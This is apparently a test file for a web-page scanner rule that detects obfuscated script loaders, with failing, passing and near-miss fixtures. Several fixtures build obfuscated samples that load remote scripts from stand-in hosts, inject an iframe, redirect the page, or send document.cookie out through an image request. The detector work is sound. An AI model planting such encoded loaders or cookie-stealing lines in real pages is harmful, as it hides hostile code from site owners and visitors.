import { ruleTester } from '../../testing/index.js';
import rule from './decoded-loader.rule.js';

const script = (code: string): string => `<script>${code}</script>`;
const codes = (text: string): string => Array.from(text, (char) => char.charCodeAt(0)).join(',');
const hex = (text: string, before: string): string =>
  Array.from(text, (char) => before + char.charCodeAt(0).toString(16).padStart(2, '0')).join('');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const LOADER = "var s=document.createElement('script');s.src='https://t.example.net/t.js';document.head.append(s)";
const TAG = '<script src="//t.example.net/t.js"></scr' + 'ipt>';
const MAIL = '<a href="mailto:info@garden.example">info@garden.example</a>';

ruleTester(rule, {
  pass: [script('document.body.dataset.ready = "1"')],
  fail: [
    {
      page: script(`eval(atob("${base64(LOADER)}"))`),
      message: 'loader',
      sentence: 'loads from t.example.net',
      evidence: '&lt;script',
    },
    { page: script(`eval(String.fromCharCode(${codes(LOADER)}))`), message: 'loader' },
    { page: script(`var x = String.fromCharCode(${codes(LOADER)}); window["eval"](x)`), message: 'loader' },
    { page: script(`document.write(unescape("${hex(TAG, '%')}"))`), message: 'loader' },
    { page: script(`new Function("${hex(LOADER, '\\x')}")()`), message: 'loader' },
    { page: script(`setTimeout(atob('${base64("top.location='https://win.example.net/'")}'), 50)`), message: 'loader' },
    {
      page: script(
        `document.write(String.fromCharCode(60,105,102,114,97,109,101) + unescape('${hex(' src="http://x.example.net/in">', '%')}'))`,
      ),
      message: 'loader',
    },
    {
      page: script(`eval(atob("${base64('eval(unescape(x))')}"))`),
      message: 'hidden',
      sentence: 'that code has eval in it',
    },
    { page: script(`eval(String.fromCharCode(${codes('new Image().src=u+document.cookie')}))`), message: 'hidden' },
  ],
  notApplicable: ['<script src="/a.js"></script>', '<p>None</p>'],
  nearMiss: [
    { note: 'a mail address kept from collectors', body: script(`document.write(unescape('${hex(MAIL, '%')}'))`) },
    {
      note: 'the same by character codes',
      body: script(`eval(String.fromCharCode(${codes(`document.write('${MAIL}')`)}))`),
    },
    {
      note: 'a file of the own site',
      body: script(`document.write(unescape('${hex(TAG.replace('t.example.net', 'static.example.com'), '%')}'))`),
    },
    {
      note: 'the published snippet of ga.js',
      body: script(
        `document.write(unescape("%3Cscript src='https://www.google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`,
      ),
    },
    {
      note: 'a counter whose brackets and quotes are escaped',
      body: script(`document.write(unescape("%3Cscript%20src=%27//counter.example.net/c.js%27%3E%3C/script%3E"))`),
    },
    {
      note: 'an address that is only hidden',
      body: script(`s.src = atob("${base64('https://ads.example.net/loader.js')}")`),
    },
    { note: 'data', body: script(`start(JSON.parse(atob("${base64('{"location": "https://maps.example.net/"}')}")))`) },
    {
      note: 'decoded code that loads nothing',
      body: script(`eval(atob("${base64('window.started = true; console.log(1)')}"))`),
    },
    { note: 'code on display', body: `<pre>eval(atob("${base64(LOADER)}"))</pre><script>1</script>` },
  ],
});
